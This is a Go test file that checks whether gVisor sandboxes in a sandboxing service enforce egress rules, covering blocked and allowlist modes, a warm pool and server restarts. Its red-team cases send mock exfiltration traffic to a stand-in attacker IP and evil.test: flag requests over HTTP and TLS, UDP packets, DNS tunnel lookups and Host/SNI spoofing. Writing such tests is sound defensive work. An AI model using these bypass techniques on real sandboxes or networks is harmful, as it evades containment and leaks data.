package egress_test

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/space-sandbox/space/internal/bench"
	"github.com/space-sandbox/space/internal/driver/gvisor"
	"github.com/space-sandbox/space/internal/server"
)

// TestEgressGvisor runs the core red-team cases from inside gVisor
// sandboxes: their netstack drives the veth of a netns made before runsc
// starts (--network=sandbox), and the same host rules and gateway must
// hold. It also checks that `auto` with --egress picks gvisor and that the
// warm pool serves gvisor sandboxes. SPACE_TEST_EGRESS_GVISOR_FULL=1 adds
// the whole red-team table.
func TestEgressGvisor(t *testing.T) {
	if _, err := gvisor.FindRunsc(os.Getenv("SPACE_RUNSC")); err != nil {
		t.Skipf("gvisor driver unavailable: %v", err)
	}
	// auto: with --egress and no usable KVM driver it must pick gvisor
	// (firecracker and qemu have no egress network), after a self-test.
	e := startDriver(t, "auto")
	var info struct {
		Driver       string `json:"driver"`
		DriverReason string `json:"driver_reason"`
		Egress       bool   `json:"egress"`
		Runsc        string `json:"runsc"`
	}
	if code := e.api(t, "GET", "/v1/info", nil, &info); code != 200 {
		t.Fatalf("GET /v1/info: %d", code)
	}
	t.Logf("/v1/info: %+v", info)
	if info.Driver != gvisor.Name || !info.Egress || !strings.Contains(info.DriverReason, "self-test") || info.Runsc == "" {
		t.Fatalf("auto with egress picked %+v, want gvisor after its self-test", info)
	}
	t.Run("warmpool", func(t *testing.T) {
		deadline := time.Now().Add(30 * time.Second)
		for e.srv.Node().PoolSize("rt") < 1 {
			if time.Now().After(deadline) {
				t.Fatal("the warm pool never filled with a gvisor sandbox")
			}
			time.Sleep(50 * time.Millisecond)
		}
		t0 := time.Now()
		warm := e.create(t, nil)
		tw := time.Since(t0)
		// A warm sandbox keeps its pool instance id; a cold one gets the
		// sandbox's own.
		if warm.instance == warm.ID || warm.instance == "" {
			t.Errorf("create did not claim the warm gvisor sandbox (instance %q)", warm.instance)
		}
		t0 = time.Now()
		cold := e.create(t, nil) // the pool refills only after a delay
		tc := time.Since(t0)
		t.Logf("create via the API: warm %v (instance %s), next %v (instance %s)", tw, warm.instance, tc, cold.instance)
		// The claimed sandbox's network serves its request's policy
		// (none: blocked): loopback answers, the gateway refuses a name.
		if out := e.run(t, warm, "dns", "localhost"); !strings.HasPrefix(out, "OK") {
			t.Errorf("warm sandbox: dns localhost: %q", out)
		}
		if out := e.run(t, warm, "dns", "registry.test"); strings.HasPrefix(out, "OK") {
			t.Errorf("warm sandbox resolved a name with no policy: %q", out)
		}
	})

	check := func(id string, bypass, deny, ctrl bool) {
		t.Helper()
		switch {
		case bypass:
			t.Errorf("gvisor %s: BYPASS", id)
		case !deny || !ctrl:
			t.Errorf("gvisor %s: INVALID (deny logged %v, positive control %v)", id, deny, ctrl)
		}
	}
	t.Run("blocked", func(t *testing.T) {
		sb := e.create(t, nil)
		n := nonce()
		ctrl := strings.HasPrefix(e.run(t, sb, "dns", "localhost"), "OK")
		e.run(t, sb, "dns", n+".evil.test")
		e.run(t, sb, "http", attackerIP+":80", attackerIP, "/flag?n="+n)
		e.run(t, sb, "http", edgeIP+":80", "registry.test", "/?n="+n)
		e.run(t, sb, "tls", attackerIP+":443", "evil.test", "evil.test", "/flag?n="+n)
		e.run(t, sb, "udp", attackerIP+":9999", n)
		e.run(t, sb, "udp", attackerIP+":53", n)
		l := e.log(t, sb)
		bypass := e.wan.attackerSaw(n) || e.wan.asked(n) || e.wan.sawEvent(n)
		check("RT-01/05/10 blocked: direct, UDP, DNS", bypass, l.denied("blocked"), ctrl)
		if l.Counters["upstream_sockets"] != 0 {
			t.Errorf("blocked sandbox caused %d upstream sockets (R17)", l.Counters["upstream_sockets"])
		}
		if l.Counters["nft_udp_drop"] < 1 {
			t.Errorf("udp_drop counter = %d: UDP from gVisor's netstack did not meet the host rules", l.Counters["nft_udp_drop"])
		}
	})
	t.Run("allowlist", func(t *testing.T) {
		sb := e.create(t, map[string]any{"mode": "allowlist", "allow": []string{"registry.test:443,80", "*.registry.test:443"}})
		ok := func(s string) bool { return strings.Contains(s, "registry ok") }
		ctrl := ok(e.run(t, sb, "http", "registry.test:80", "registry.test", "/simple/")) &&
			ok(e.run(t, sb, "tls", "registry.test:443", "registry.test", "registry.test", "/simple/")) &&
			ok(e.run(t, sb, "tls", "files.registry.test:443", "files.registry.test", "files.registry.test", "/x"))
		for _, a := range []struct {
			id, reason string
			args       func(n string) []string
		}{
			{"RT-01 IP literal", "ip_literal", func(n string) []string {
				return []string{"http", attackerIP + ":80", attackerIP, "/flag?n=" + n}
			}},
			{"RT-17 own resolution, allowed SNI", "not_resolved", func(n string) []string {
				return []string{"tls", attackerIP + ":443", "registry.test", "registry.test", "/flag?n=" + n}
			}},
			{"RT-04 shared IP, other Host", "not_allowed", func(n string) []string {
				return []string{"http", "registry.test:80", "evil-cdn.test", "/flag?n=" + n}
			}},
			{"RT-10 DNS tunnel", "dns_refused", func(n string) []string { return []string{"dns", n + ".evil.test"} }},
		} {
			n := nonce()
			seq := e.seq(t, sb)
			e.run(t, sb, a.args(n)...)
			l := e.logAfter(t, sb, seq)
			bypass := e.wan.attackerSaw(n) || e.wan.asked(n) || e.wan.sawEvent(n)
			check(a.id, bypass, l.denied(a.reason), ctrl)
		}
	})
	// A restarted server re-adopts a running gvisor sandbox with its link
	// (found by the veth's alias) and serves its stored policy again.
	t.Run("restart", func(t *testing.T) {
		sb := e.create(t, map[string]any{"mode": "allowlist", "allow": []string{"registry.test:80"}})
		ok := func(s string) bool { return strings.Contains(s, "registry ok") }
		if !ok(e.run(t, sb, "http", "registry.test:80", "registry.test", "/before")) {
			t.Fatal("allowed fetch failed before the restart")
		}
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		if err := e.srv.Shutdown(ctx); err != nil {
			t.Fatal(err)
		}
		srv, err := server.Start(ctx, e.cfg)
		if err != nil {
			t.Fatal(err)
		}
		e.srv, e.cl = srv, bench.NewClient("http://"+srv.Addr(), e.key)
		var sess struct {
			Token   string `json:"token"`
			DataURL string `json:"data_url"`
		}
		if code := e.api(t, "POST", "/v1/sandboxes/"+sb.ID+"/session", nil, &sess); code != 200 {
			t.Fatalf("new session: %d", code)
		}
		sb.Token, sb.DataURL = sess.Token, strings.TrimRight(sess.DataURL, "/")
		if !ok(e.run(t, sb, "http", "registry.test:80", "registry.test", "/after")) {
			t.Error("allowed fetch failed after the restart")
		}
		n := nonce()
		seq := e.seq(t, sb)
		e.run(t, sb, "http", attackerIP+":80", attackerIP, "/flag?n="+n)
		if e.wan.attackerSaw(n) {
			t.Error("BYPASS after the restart")
		}
		if l := e.logAfter(t, sb, seq); !l.denied("ip_literal") {
			t.Errorf("no ip_literal denial after the restart: %+v", l.Decisions)
		}
	})

	// The whole red-team table under gvisor takes minutes and has cases
	// whose oracle does not fit gVisor yet (docs/drivers.md): opt in.
	if os.Getenv("SPACE_TEST_EGRESS_GVISOR_FULL") == "1" {
		redTeam(t, e)
	}
}
